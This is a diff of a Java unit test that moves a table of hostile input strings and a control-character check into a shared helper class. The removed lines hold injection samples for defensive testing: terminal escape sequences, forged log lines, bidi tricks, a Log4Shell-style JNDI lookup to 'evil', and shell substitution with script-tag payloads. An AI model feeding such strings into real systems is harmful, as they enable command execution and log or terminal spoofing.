@@ -16,7 +16,6 @@ import java.nio.file.Files;
 import java.nio.file.InvalidPathException;
 import java.nio.file.Path;
 import java.util.ArrayList;
-import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.stream.Stream;
@@ -32,6 +31,7 @@ import org.bouncycastle.asn1.x509.Extension;
 import org.bouncycastle.asn1.x509.GeneralName;
 import org.bouncycastle.asn1.x509.GeneralNames;
 import org.certdrop.json.StrictJson;
+import org.certdrop.text.HostileStrings;
 import org.certdrop.x509.TestCertificate;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -52,29 +52,7 @@ class HostileStringsTest {
   private int files;
   private String hostile;
 
-  /** By name, since reports of tests are read on terminals, too. */
-  private static final Map<String, String> STRINGS = new LinkedHashMap<>();
-
-  static {
-    STRINGS.put("colour", "\u001b[31mred\u001b[0m");
-    STRINGS.put("clear screen", "\u001b[2J\u001b[H");
-    STRINGS.put("8-bit CSI", "\u009b31mred");
-    STRINGS.put("OSC 8 link", "\u001b]8;;http://evil.example\u0007click\u001b]8;;\u001b\\");
-    STRINGS.put("title", "\u009d0;owned\u009c");
-    STRINGS.put("line feed", "x\n2026-11-23T00:00:00.000Z INFO  registered forged");
-    STRINGS.put("return", "refused\rregistered");
-    STRINGS.put("next line", "x\u0085forged");
-    STRINGS.put("NUL", "x\u0000y");
-    STRINGS.put("bell and backspace", "x\u0007\b\by\u007f");
-    STRINGS.put("bidi override", "\u202egnp.\u202c");
-    STRINGS.put("bidi isolate", "\u2066x\u2069\u200f");
-    STRINGS.put("zero width", "no\u200bde\u200d\ufeff\u2060");
-    STRINGS.put("line separators", "x\u2028y\u2029z");
-    STRINGS.put("half a pair", "x\ud800y");
-    STRINGS.put("tags", "x\udb40\udc41y");
-    STRINGS.put("lookups", "${jndi:ldap://evil/a}${env:HOME}{{x}}{}{0}%n%s%d%X{a}#{x}");
-    STRINGS.put("shell", "$(id)`id`;id|id&id'\"\\ <script>alert(1)</script>");
-  }
+  private static final Map<String, String> STRINGS = HostileStrings.all();
 
   @BeforeEach
   void makeHome() throws IOException {
@@ -223,21 +201,9 @@ class HostileStringsTest {
   }
 
   private static void isHarmless(String where, String text) {
-    assertThat(text.codePoints().filter(HostileStringsTest::isHarmful).boxed().toList())
+    assertThat(text.codePoints().filter(HostileStrings::isHarmful).boxed().toList())
         .as(where)
         .isEmpty();
-  }
-
-  private static boolean isHarmful(int point) {
-    return switch (Character.getType(point)) {
-      case Character.CONTROL -> point != '\n';
-      case Character.FORMAT,
-          Character.SURROGATE,
-          Character.LINE_SEPARATOR,
-          Character.PARAGRAPH_SEPARATOR ->
-          true;
-      default -> false;
-    };
   }
 
   private void everyCommandIsHarmless() throws IOException {
